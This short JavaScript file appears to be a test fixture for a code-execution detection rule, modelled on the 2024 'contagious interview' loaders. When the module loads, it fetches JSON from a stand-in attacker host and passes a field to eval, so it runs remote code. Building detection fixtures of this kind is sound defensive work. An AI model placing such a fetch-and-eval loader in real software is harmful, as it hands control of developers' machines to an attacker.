'use strict';
const axios = require('axios');

// Defanged model of the 2024 "contagious interview" loaders: a field of a fetched JSON document run as code.
axios.get('https://cdn.attacker.example/config').then((res) => {
  // ruleid: code/code-execution
  eval(res.data.init);
});

module.exports = { load: () => ({}) };
